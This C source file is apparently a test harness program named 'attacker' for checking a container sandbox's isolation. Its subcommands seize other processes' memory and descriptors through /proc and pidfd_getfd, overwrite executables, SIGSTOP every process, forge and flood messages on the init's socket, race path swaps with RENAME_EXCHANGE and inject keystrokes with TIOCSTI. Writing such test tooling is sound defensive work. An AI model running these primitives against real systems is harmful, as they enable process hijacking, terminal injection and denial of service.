// What a hostile program in a container does to whoever joins it, and a hostile neighbour to paths that are in use.
//
//   attacker spy             looks into each process that comes; on SIGTERM tells as JSON what it got hold of
//   attacker stop            stops every other process, again and again
//   attacker forge WHAT      takes the socket of the first init it may look into, and says by it what init never says:
//                            garbage, forked, flood, descriptors, listener or terminal
//   attacker descriptors F   writes the numbers of its descriptors into a new file
//   attacker exchange A B    exchanges two paths until it is ended; on SIGTERM tells how often
//   attacker type TEXT       types into the terminal that is its standard input, and tells how many characters it could
//   attacker connect NAME    exits with what connecting to the abstract socket failed with, or 0
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

enum { MOST = 256, LENGTH = 256 };

static volatile sig_atomic_t ended;

static void end(int signal) {
  (void)signal;
  ended = 1;
}

static void begin(void) {
  signal(SIGTERM, end);
  printf("ready\n");
  fflush(stdout);
}

// Texts, each once.
struct set {
  int count;
  char texts[MOST][LENGTH];
};

static void add(struct set *set, const char *text) {
  for (int i = 0; i < set->count; i++) {
    if (strcmp(set->texts[i], text) == 0) return;
  }
  if (set->count < MOST) snprintf(set->texts[set->count++], LENGTH, "%s", text);
}

static void print_set(const char *name, const struct set *set) {
  printf(",\"%s\":[", name);
  for (int i = 0; i < set->count; i++) printf("%s\"%s\"", i == 0 ? "" : ",", set->texts[i]);
  printf("]");
}

static struct set programs, rights, seized, places, descriptors, overwritten;
static int images[MOST];
static int image_count;
static long looks;

static const char *link_of(pid_t pid, const char *name, char *target) {
  char path[LENGTH];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
  ssize_t length = readlink(path, target, LENGTH - 1);
  target[length < 0 ? 0 : length] = 0;
  return target;
}

// The container's own programs are its own to look into.
static int is_foreign(const char *program) {
  return program[0] != 0 && strncmp(program, "/bin/", 5) != 0;
}

// Everything the kernel grants to who may attach to a process.
static void seize(pid_t pid, const char *program) {
  char path[LENGTH], text[LENGTH * 2];
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int memory = open(path, O_RDWR | O_CLOEXEC);
  if (memory >= 0) {
    snprintf(text, sizeof text, "memory of %s", program);
    add(&seized, text);
    close(memory);
  }
  int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
  for (int fd = 0; pidfd >= 0 && fd < 64; fd++) {
    int copy = (int)syscall(438 /* pidfd_getfd */, pidfd, fd, 0);
    if (copy < 0) continue;
    snprintf(text, sizeof text, "descriptor %d of %s", fd, program);
    add(&seized, text);
    close(copy);
  }
  if (pidfd >= 0) close(pidfd);
}

// Executable files are kept for later: one that is being executed cannot be written.
static void keep_image(pid_t pid) {
  char path[LENGTH];
  struct stat info, kept;
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) return;
  int is_new = fstat(fd, &info) == 0;
  for (int i = 0; i < image_count && is_new; i++) {
    is_new = fstat(images[i], &kept) != 0 || kept.st_dev != info.st_dev || kept.st_ino != info.st_ino;
  }
  if (is_new && image_count < MOST) {
    images[image_count++] = fd;
  } else {
    close(fd);
  }
}

// Its permitted capabilities.
static void note_rights(pid_t pid) {
  char path[LENGTH], line[LENGTH];
  snprintf(path, sizeof path, "/proc/%d/status", pid);
  FILE *file = fopen(path, "re");
  while (file != NULL && fgets(line, sizeof line, file) != NULL) {
    if (strncmp(line, "CapPrm:", 7) != 0) continue;
    line[strcspn(line, "\n")] = 0;
    add(&rights, line + 8);
  }
  if (file != NULL) fclose(file);
}

static void look_into(pid_t pid) {
  char program[LENGTH], again[LENGTH], target[LENGTH], path[LENGTH];
  looks++;
  keep_image(pid);
  note_rights(pid);
  link_of(pid, "exe", program);
  if (program[0] != 0) add(&programs, program);
  if (is_foreign(program)) seize(pid, program);
  link_of(pid, "cwd", target);
  if (target[0] != 0) add(&places, target);
  link_of(pid, "root", target);
  if (target[0] != 0) add(&places, target);

  snprintf(path, sizeof path, "/proc/%d/fd", pid);
  DIR *listing = opendir(path);
  for (struct dirent *entry; listing != NULL && (entry = readdir(listing)) != NULL;) {
    snprintf(path, sizeof path, "fd/%.20s", entry->d_name);
    if (entry->d_name[0] != '.' && link_of(pid, path, target)[0] == '/') add(&descriptors, target);
  }
  if (listing != NULL) closedir(listing);
  if (is_foreign(link_of(pid, "exe", again))) add(&programs, again);
}

static void overwrite_images(void) {
  for (int i = 0; i < image_count; i++) {
    char path[LENGTH], target[LENGTH];
    snprintf(path, sizeof path, "/proc/self/fd/%d", images[i]);
    ssize_t length = readlink(path, target, sizeof target - 1);
    target[length < 0 ? 0 : length] = 0;
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) continue;
    // A sealed memfd can be opened, and takes nothing.
    if (is_foreign(target) && (write(fd, "", 1) > 0 || ftruncate(fd, 0) == 0)) add(&overwritten, target);
    close(fd);
  }
}

static int spy(void) {
  begin();
  while (!ended) {
    DIR *listing = opendir("/proc");
    for (struct dirent *entry; listing != NULL && (entry = readdir(listing)) != NULL;) {
      pid_t pid = atoi(entry->d_name);
      if (pid > 1 && pid != getpid()) look_into(pid);
    }
    if (listing != NULL) closedir(listing);
  }
  overwrite_images();
  printf("{\"looks\":%ld", looks);
  print_set("programs", &programs);
  print_set("rights", &rights);
  print_set("seized", &seized);
  print_set("places", &places);
  print_set("descriptors", &descriptors);
  print_set("overwritten", &overwritten);
  printf("}\n");
  return 0;
}

static int stop_others(void) {
  begin();
  while (!ended) kill(-1, SIGSTOP);
  kill(-1, SIGCONT);
  return 0;
}

// FrameHeader of native/wire.h.
struct frame {
  unsigned kind, index;
  int error;
  unsigned short syscall_length, detail_length;
  unsigned long value;
};

static long say(int socket, struct frame frame, size_t size, const int *fds, size_t count) {
  union {
    struct cmsghdr header;
    char bytes[CMSG_SPACE(2 * sizeof(int))];
  } ancillary = {0};
  struct iovec part = {&frame, size};
  struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1};
  if (count > 0) {
    message.msg_control = &ancillary;
    message.msg_controllen = CMSG_SPACE(count * sizeof(int));
    ancillary.header.cmsg_level = SOL_SOCKET;
    ancillary.header.cmsg_type = SCM_RIGHTS;
    ancillary.header.cmsg_len = CMSG_LEN(count * sizeof(int));
    memcpy(CMSG_DATA(&ancillary.header), fds, count * sizeof(int));
  }
  return sendmsg(socket, &message, MSG_NOSIGNAL);
}

static int socket_of_init(void) {
  for (pid_t pid = 1; pid < 100; pid++) {
    char program[LENGTH];
    if (pid == getpid() || !is_foreign(link_of(pid, "exe", program))) continue;
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    for (int fd = 0; pidfd >= 0 && fd < 64; fd++) {
      int copy = (int)syscall(438 /* pidfd_getfd */, pidfd, fd, 0);
      int type = 0;
      socklen_t size = sizeof type;
      if (copy >= 0 && getsockopt(copy, SOL_SOCKET, SO_TYPE, &type, &size) == 0 && type == SOCK_SEQPACKET) return copy;
      if (copy >= 0) close(copy);
    }
  }
  return -1;
}

static int forge(const char *what) {
  const struct frame traced = {.kind = 5}, descriptor = {.kind = 7}, forked = {.kind = 6, .value = 1};
  int socket = socket_of_init();
  if (socket < 0) return 2;
  begin();
  if (strcmp(what, "garbage") == 0) return say(socket, traced, 5, NULL, 0) != 5;
  if (strcmp(what, "forked") == 0) return say(socket, forked, sizeof forked, NULL, 0) < 0;
  if (strcmp(what, "listener") == 0) {
    return say(socket, (struct frame){.kind = 8, .value = 1UL << 40}, sizeof forked, NULL, 0) < 0;
  }
  if (strcmp(what, "flood") == 0) {
    while (say(socket, traced, sizeof traced, NULL, 0) > 0) continue;
    return 0;
  }
  // To serve what blocks would take a thread each, for ever.
  int ends[2];
  if (pipe(ends) != 0) return 3;
  while (say(socket, descriptor, sizeof descriptor, ends, strcmp(what, "descriptors") == 0 ? 2 : 1) > 0) continue;
  return 0;
}

// A process of another pid namespace finds nothing of itself in the host's procfs.
static int tell_descriptors(const char *path) {
  char text[LENGTH * 16] = "";
  for (int fd = 0; fd < 1024; fd++) {
    if (fcntl(fd, F_GETFD) >= 0) snprintf(text + strlen(text), sizeof text - strlen(text), "%d ", fd);
  }
  FILE *file = fopen(path, "wex");
  if (file == NULL || fputs(text, file) < 0 || fclose(file) != 0) return errno;
  return 0;
}

static int exchange(const char *one, const char *other) {
  long times = 0;
  begin();
  while (!ended) {
    if (syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2 /* RENAME_EXCHANGE */) != 0) return errno;
    times++;
  }
  printf("%ld\n", times);
  return 0;
}

/* Types into the terminal that standard input is; a second time after trying to make it this session's own. */
static int type_into_terminal(const char *text) {
  if (!isatty(0)) return fprintf(stderr, "attacker: no terminal\n"), 64;
  int typed = 0;
  for (int round = 0; round < 2; round++) {
    for (const char *at = text; *at != '\0'; at++) typed += ioctl(0, TIOCSTI, at) == 0;
    ioctl(0, TIOCSCTTY, 1);
  }
  printf("typed %d, %s\n", typed, strerror(errno));
  return typed;
}

static int connect_abstract(const char *name) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  memcpy(address.sun_path + 1, name, strlen(name));
  const socklen_t exact = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
  const int socket_fd = socket(AF_UNIX, SOCK_STREAM, 0);
  if (connect(socket_fd, (struct sockaddr *)&address, exact) == 0) return 0;
  /* Some pad the name. */
  return connect(socket_fd, (struct sockaddr *)&address, sizeof address) == 0 ? 0 : errno;
}

int main(int argc, char **argv) {
  const char *command = argc > 1 ? argv[1] : "";
  if (strcmp(command, "spy") == 0) return spy();
  if (strcmp(command, "stop") == 0) return stop_others();
  if (strcmp(command, "forge") == 0 && argc == 3) return forge(argv[2]);
  if (strcmp(command, "descriptors") == 0 && argc == 3) return tell_descriptors(argv[2]);
  if (strcmp(command, "exchange") == 0 && argc == 4) return exchange(argv[2], argv[3]);
  if (strcmp(command, "type") == 0 && argc == 3) return type_into_terminal(argv[2]);
  if (strcmp(command, "connect") == 0 && argc == 3) return connect_abstract(argv[2]);
  fprintf(stderr, "attacker: unknown command %s\n", command);
  return 64;
}
